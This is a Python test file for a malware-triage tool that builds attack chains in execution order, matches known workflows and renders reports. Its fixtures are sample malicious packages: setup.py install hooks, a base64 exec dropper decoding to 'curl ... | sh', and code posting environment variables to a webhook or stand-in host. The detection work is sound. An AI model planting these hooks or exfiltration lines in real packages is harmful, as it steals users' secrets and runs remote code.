"""Attack chains: execution order over real call flow, workflows, chain score, reports."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import jsonschema
import pytest

from triage.chains import (
    MAX_STEPS,
    build_chain,
    chain_score,
    match_workflows,
)
from triage.errors import TaxonomyError
from triage.execution import execution_order
from triage.mining import is_subsequence
from triage.model import (
    Artifact,
    ChainStep,
    FileKind,
    Finding,
    Phase,
    Source,
    SourceFile,
    WorkflowMatch,
)
from triage.pipeline import explain_artifact
from triage.render import html, markdown, sarif, terminal
from triage.statements import FileIndex, index_file
from triage.taxonomy import kb_dir, load_taxonomy
from triage.workflows import Workflow, load_workflows, parse_workflows

TAX = load_taxonomy()

SETUP = '''\
import os
from setuptools import setup
from setuptools.command.install import install
from pkg.helpers import steal


def fetch():
    return open("/tmp/x").read()


class Hook(install):
    def run(self):
        data = fetch()
        steal(data)
        install.run(self)


token = os.environ.get("TOKEN")
setup(name="demo", cmdclass={"install": Hook})
'''
HELPERS = '''\
import requests


def steal(data):
    requests.post("https://collect.example.invalid", data=data)
'''
INIT = '''\
from .core import go

go()
'''
CORE = '''\
import subprocess


def go():
    subprocess.Popen("whoami", shell=True)


if __name__ == "__main__":
    print("cli")
'''


def indices_of(*files: SourceFile) -> dict[str, FileIndex]:
    return {f.path: index_file(f) for f in files}


PKG = indices_of(
    SourceFile("demo-1/setup.py", SETUP),
    SourceFile("demo-1/pkg/helpers.py", HELPERS),
    SourceFile("demo-1/pkg/__init__.py", INIT),
    SourceFile("demo-1/pkg/core.py", CORE),
)


def finding(indices: dict[str, FileIndex], path: str, line: int, indicator: str,
            confidence: float = 0.9) -> Finding:
    st = indices[path].at_line(line)
    assert st is not None
    ind = TAX.get(indicator)
    return Finding(file=path, start_line=st.start_line, end_line=st.end_line, code=st.text,
                   indicator=indicator, type=ind.type_name, phase=st.phase,
                   severity=ind.severity, confidence=confidence, source=Source.STATIC,
                   justification="j", statement_id=st.id,
                   origin=indices[path].file.origin)


def steps(chain: tuple[ChainStep, ...], findings: list[Finding]) -> list[tuple[str, str, str]]:
    return [(s.phase.value, s.indicator,
             f"{findings[s.finding_index].file}:{findings[s.finding_index].start_line}")
            for s in chain]


def test_execution_order_follows_calls_hooks_imports_and_main_guard() -> None:
    order = execution_order(PKG)
    ranked = sorted(order, key=lambda sid: order[sid].rank)
    assert [(sid, order[sid].phase.value) for sid in ranked] == [
        ("demo-1/setup.py:1:0", "install"),
        ("demo-1/setup.py:2:0", "install"),
        ("demo-1/setup.py:3:0", "install"),
        # `from pkg.helpers import steal` runs pkg/__init__ (which imports core and calls go)
        ("demo-1/setup.py:4:0", "install"),
        ("demo-1/pkg/__init__.py:1:0", "install"),
        ("demo-1/pkg/core.py:1:0", "install"),
        ("demo-1/pkg/core.py:4:0", "install"),
        ("demo-1/pkg/core.py:8:0", "install"),
        ("demo-1/pkg/__init__.py:3:0", "install"),
        ("demo-1/pkg/core.py:5:0", "install"),
        ("demo-1/pkg/helpers.py:1:0", "install"),
        ("demo-1/pkg/helpers.py:4:0", "install"),
        ("demo-1/setup.py:7:0", "install"),
        ("demo-1/setup.py:11:0", "install"),
        ("demo-1/setup.py:12:0", "install"),
        ("demo-1/setup.py:18:0", "install"),
        # setup(cmdclass=...) runs Hook.run, which calls fetch() then steal()
        ("demo-1/setup.py:19:0", "install"),
        ("demo-1/setup.py:13:0", "install"),
        ("demo-1/setup.py:8:0", "install"),
        ("demo-1/setup.py:14:0", "install"),
        ("demo-1/pkg/helpers.py:5:0", "install"),
        ("demo-1/setup.py:15:0", "install"),
        ("demo-1/pkg/core.py:9:0", "call"),  # the __main__ block: only as a script
    ]


THREADS = '''\
import atexit, threading


class Worker:
    def main(self):
        self.steal()

    def steal(self):
        pass


def later():
    pass


if __name__ == "__main__":
    later()
threading.Thread(target=Worker().main).start()
atexit.register(later)
'''


def test_callbacks_and_new_instance_methods_run_where_they_are_passed() -> None:
    ix = indices_of(SourceFile("w/mod.py", THREADS))
    order = execution_order(ix)
    ranked = sorted(order, key=lambda sid: order[sid].rank)
    assert [(sid.split(":")[1], order[sid].phase.value) for sid in ranked] == [
        ("1", "import"), ("4", "import"), ("5", "import"), ("8", "import"), ("12", "import"),
        ("16", "import"), ("18", "import"), ("6", "import"), ("9", "import"),
        ("19", "import"), ("13", "import"), ("17", "call"),
    ]


def test_chain_puts_hook_body_at_setup_call_and_crosses_files() -> None:
    fs = [  # report order (sorted by file), not execution order
        finding(PKG, "demo-1/pkg/core.py", 5, "code_execution_shell_command"),
        finding(PKG, "demo-1/pkg/helpers.py", 5, "code_exfiltration_data"),
        finding(PKG, "demo-1/setup.py", 8, "code_read_credentials"),
        finding(PKG, "demo-1/setup.py", 11, "code_execution_install_hook_override"),
        finding(PKG, "demo-1/setup.py", 18, "code_modify_environment", 0.6),
    ]
    assert fs[1].phase is Phase.CALL  # the index alone does not see setup.py calling it
    assert steps(build_chain(fs, PKG), fs) == [
        ("install", "code_execution_shell_command", "demo-1/pkg/core.py:5"),
        ("install", "code_execution_install_hook_override", "demo-1/setup.py:11"),
        ("install", "code_modify_environment", "demo-1/setup.py:18"),
        ("install", "code_read_credentials", "demo-1/setup.py:8"),
        ("install", "code_exfiltration_data", "demo-1/pkg/helpers.py:5"),
    ]


def test_without_indices_findings_keep_phase_file_line_order() -> None:
    fs = [
        finding(PKG, "demo-1/pkg/helpers.py", 5, "code_exfiltration_data"),
        finding(PKG, "demo-1/setup.py", 11, "code_execution_install_hook_override"),
    ]
    assert [s.indicator for s in build_chain(fs)] == [
        "code_execution_install_hook_override", "code_exfiltration_data"]


DROPPER = '''\
import base64
from setuptools import setup
exec(base64.b64decode(PAYLOAD))
import os
os.remove("/tmp/trace")
setup(name="x")
'''


def test_decoded_payload_runs_right_after_its_origin_statement() -> None:
    decoded = SourceFile("x-1/setup.py#decoded-1", "import urllib.request\n"
                         "urllib.request.urlopen('https://a.example.invalid')\n",
                         kind=FileKind.DECODED, origin="x-1/setup.py:3:0",
                         origin_phase=Phase.INSTALL)
    ix = indices_of(SourceFile("x-1/setup.py", DROPPER), decoded)
    fs = [
        finding(ix, "x-1/setup.py", 3, "code_execution_encoded_command"),
        finding(ix, "x-1/setup.py", 3, "code_obfuscation_encoding"),
        finding(ix, "x-1/setup.py", 5, "code_remove_file"),
        finding(ix, "x-1/setup.py#decoded-1", 2, "code_download_payload"),
    ]
    assert steps(build_chain(fs, ix), fs) == [
        ("install", "code_obfuscation_encoding", "x-1/setup.py:3"),
        ("install", "code_execution_encoded_command", "x-1/setup.py:3"),
        ("install", "code_download_payload", "x-1/setup.py#decoded-1:2"),
        ("install", "code_remove_file", "x-1/setup.py:5"),
    ]


def test_repeats_collapse_weak_steps_wait_and_long_chains_are_capped() -> None:
    lines = "\n".join(f"x{i} = {i}" for i in range(1, 21)) + "\n"
    ix = indices_of(SourceFile("m/mod.py", lines))
    ids = ["code_execution_runtime", "code_obfuscation", "code_obfuscation_encoding",
           "code_obfuscation_encryption", "code_obfuscation_computational",
           "code_suppressing_error", "code_read_system_and_user_info", "code_remove_file",
           "code_write_to_disk", "code_enumerate_directory", "code_download_payload",
           "code_geolocation_lookup", "code_execution_shell_command", "code_exfiltration_data"]
    fs = [finding(ix, "m/mod.py", n, ind) for n, ind in enumerate(ids, start=1)]
    fs.append(finding(ix, "m/mod.py", 15, "code_execution_runtime"))  # repeat: no new step
    fs.append(finding(ix, "m/mod.py", 16, "code_read_credentials", 0.4))  # weak: left out
    chain = build_chain(fs, ix)
    assert len(chain) == MAX_STEPS == 12
    dropped = [i for i in ids if i not in {s.indicator for s in chain}]
    assert dropped == ["code_suppressing_error", "code_geolocation_lookup"]
    assert chain[0] == ChainStep(Phase.IMPORT, "code_execution_runtime", 0)
    weak_only = [finding(ix, "m/mod.py", 2, "code_read_credentials", 0.4)]
    assert build_chain(weak_only, ix) == (ChainStep(Phase.IMPORT, "code_read_credentials", 0),)


def wf(id_: str, *pattern: str, support: float = 0.2) -> Workflow:
    return Workflow(id=id_, pattern=pattern, support=support, confidence=1.0, clusters=3,
                    source="labels")


def chain_of(*indicators: str, phase: Phase = Phase.INSTALL) -> tuple[ChainStep, ...]:
    return tuple(ChainStep(phase, ind, i) for i, ind in enumerate(indicators))


def test_match_workflows_in_order_maximal_strongest_first() -> None:
    chain = chain_of("code_execution_install_hook_override", "code_obfuscation",
                     "code_execution_dynamic_evaluation", "code_download_payload")
    flows = [
        wf("W01", "code_obfuscation", "code_execution_dynamic_evaluation", support=0.3),
        wf("W02", "code_execution_install_hook_override", "code_obfuscation",
           "code_execution_dynamic_evaluation"),
        wf("W03", "code_download_payload", "code_obfuscation"),  # wrong order
        wf("W04", "code_execution_install_hook_override", "code_download_payload", support=0.1),
    ]
    assert match_workflows(chain, flows) == (
        WorkflowMatch("W02", ("code_execution_install_hook_override", "code_obfuscation",
                              "code_execution_dynamic_evaluation"), 0.2),
        WorkflowMatch("W04", ("code_execution_install_hook_override", "code_download_payload"),
                      0.1),
    )
    assert match_workflows(chain[:1], flows) == ()


def scored(phase: Phase, *specs: tuple[str, float]) -> tuple[list[Finding], tuple]:
    fs = []
    for n, (ind, conf) in enumerate(specs, start=1):
        info = TAX.get(ind)
        fs.append(Finding(file="s.py", start_line=n, end_line=n, code="x", indicator=ind,
                          type=info.type_name, phase=phase, severity=info.severity,
                          confidence=conf, source=Source.STATIC, justification="j",
                          statement_id=f"s.py:{n}:0"))
    return fs, tuple(ChainStep(phase, f.indicator, i) for i, f in enumerate(fs))


def test_chain_score_breadth_workflow_and_trigger() -> None:
    fs, chain = scored(Phase.INSTALL, ("code_execution_install_hook_override", 0.95),
                       ("code_obfuscation_encoding", 0.9), ("code_download_payload", 0.9),
                       ("code_exfiltration_data", 0.9))
    assert chain_score(chain, fs) == (
        0.15, "attack chain of 4 steps across 4 behaviour types from install time")
    match = WorkflowMatch("W02", tuple(s.indicator for s in chain[:3]), 0.25)
    assert chain_score(chain, fs, (match,)) == (
        0.23, "attack chain of 4 steps across 4 behaviour types from install time, matches "
        "known workflow W02 (support 0.25)")
    fs, chain = scored(Phase.CALL, ("code_read_system_and_user_info", 0.9),
                       ("code_download_payload", 0.9))
    assert chain_score(chain, fs)[0] == 0.02
    fs, chain = scored(Phase.INSTALL, ("code_read_system_and_user_info", 0.9),
                       ("code_download_payload", 0.5), ("code_suppressing_error", 0.9))
    assert chain_score(chain, fs) == (0.0, "")  # weak and low-severity steps do not count


def test_shipped_workflows_are_valid_and_embedded_next_to_the_taxonomy() -> None:
    flows = load_workflows()
    assert flows and all(i in TAX for w in flows for i in w.pattern)
    text = (kb_dir() / "chains.yaml").read_text(encoding="utf-8")
    assert text.startswith("# Known attack workflows")
    assert "\n# Generated by: triage mine --labels " in text
    from triage.retrieval_kb import documents, load_examples

    docs = documents(TAX, load_examples(kb_dir(), TAX), flows)
    kinds = [d for d in docs if d.kind == "workflow"]
    assert [d.id for d in kinds] == [f"wf:{w.id}" for w in flows]
    assert kinds[0].lexical_text == " ".join(flows[0].pattern)


GOOD_YAML = """\
version: 1
algorithm: prefixspan
params: {}
datasets: []
workflows:
  - {id: W01, pattern: [code_obfuscation, code_execution_dynamic_evaluation],
     support: 0.5, confidence: 1.0, clusters: 2, source: labels}
"""


@pytest.mark.parametrize("change, message", [
    (("code_obfuscation,", "code_nonsense,"),
     "chains.yaml: workflow W01 names unknown indicators ['code_nonsense']"),
    (("support: 0.5", "support: 1.5"), "less than or equal to 1"),
    (("source: labels}", "source: labels, extra: 1}"), "Extra inputs are not permitted"),
    (("W01", "W1"), "String should match pattern"),
])
def test_workflow_file_is_validated(change: tuple[str, str], message: str) -> None:
    assert parse_workflows(GOOD_YAML, TAX)[0].pattern == (
        "code_obfuscation", "code_execution_dynamic_evaluation")
    with pytest.raises(TaxonomyError, match=message.replace("[", r"\[").replace("]", r"\]")):
        parse_workflows(GOOD_YAML.replace(*change), TAX)
    dup = GOOD_YAML + GOOD_YAML.split("workflows:\n", 1)[1]
    with pytest.raises(TaxonomyError, match="duplicate workflow ID W01"):
        parse_workflows(dup, TAX)


SCHEMA = json.loads(
    Path("/work/shared/reference/sarif-schema-2.1.0.json").read_text(encoding="utf-8"))


EVIL_SETUP = '''\
import base64
from setuptools import setup
from setuptools.command.install import install
from evil.helpers import steal


class Hook(install):
    def run(self):
        exec(base64.b64decode("PAYLOAD"))
        steal()
        install.run(self)


setup(name="evil", cmdclass={"install": Hook})
'''.replace("PAYLOAD", base64.b64encode(
    b"import os; os.system('curl -s http://a.example.invalid/x | sh')").decode())
EVIL_HELPERS = '''\
import os, requests


def steal():
    requests.post("https://discord.com/api/webhooks/123/abc", data=str(dict(os.environ)))
'''


def test_pipeline_report_has_chain_workflows_bonus_and_schema_valid_code_flows() -> None:
    art = Artifact(name="evil", version="1", sha256="0" * 64, kind="sdist",
                   source="evil-1.tar.gz", files=(
                       SourceFile("evil-1/setup.py", EVIL_SETUP),
                       SourceFile("evil-1/evil/helpers.py", EVIL_HELPERS),
                       SourceFile("evil-1/evil/__init__.py", "")))
    report = explain_artifact(art)
    at = [(s.indicator, report.findings[s.finding_index]) for s in report.chain]
    assert (at[0][0], at[0][1].file, at[0][1].start_line) == (
        "code_execution_install_hook_override", "evil-1/setup.py", 7)
    assert is_subsequence(["code_execution_install_hook_override",
                           "code_execution_encoded_command", "code_download_payload",
                           "code_exfiltration_data"], [i for i, _ in at])
    exfil = [s for s in report.chain if s.indicator == "code_exfiltration_data"][0]
    assert report.findings[exfil.finding_index].phase is Phase.CALL  # as the index sees it
    assert exfil.phase is Phase.INSTALL  # ...but the install hook calls it across files
    assert report.workflows == match_workflows(report.chain, load_workflows())
    assert any(r.startswith("attack chain of ") for r in report.verdict.reasons)
    log = json.loads(sarif.render(report))
    jsonschema.Draft4Validator(SCHEMA).validate(log)
    results = log["runs"][0]["results"]
    flow = results[report.chain[0].finding_index]["codeFlows"][0]["threadFlows"][0]
    assert [loc["executionOrder"] for loc in flow["locations"]] == list(
        range(1, len(report.chain) + 1))
    assert [loc["location"]["message"]["text"] for loc in flow["locations"]] == [
        f"{n}. {s.phase.value}: {s.indicator}" for n, s in enumerate(report.chain, start=1)]


def test_renderers_show_matched_workflow() -> None:
    from tests.render_factory import malicious_report

    match = WorkflowMatch("W02", ("code_execution_install_hook_override",
                                  "code_execution_encoded_command"), 0.25)
    report = malicious_report(workflows=(match,))
    line = ("Matches known workflow W02 (support 0.25): code_execution_install_hook_override "
            "→ code_execution_encoded_command")
    md = markdown.render(report)
    assert f"3. install → code_exfiltration_data (setup.py#decoded-1:3)\n\n- {line}\n" in md
    assert f"  ↳ {line}\n" in terminal.render(report, width=200)
    assert f'<p class="workflow">{line}</p>' in html.render(report)
    assert "Matches known workflow" not in markdown.render(malicious_report())
    flow = json.loads(sarif.render(report))["runs"][0]["results"][0]["codeFlows"][0]
    assert flow["message"]["text"] == f"Attack chain in execution order. {line}."
